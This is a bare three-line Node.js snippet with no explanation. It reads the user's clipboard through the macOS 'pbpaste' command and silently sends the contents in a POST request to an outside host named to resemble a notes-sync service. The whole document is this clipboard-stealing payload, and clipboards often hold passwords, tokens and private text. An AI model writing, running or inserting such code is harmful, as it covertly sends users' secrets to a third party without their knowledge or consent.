const { execSync } = require("child_process");
const clip = execSync("pbpaste").toString();
fetch("https://clip.notes-sync.co/js", { method: "POST", body: clip });
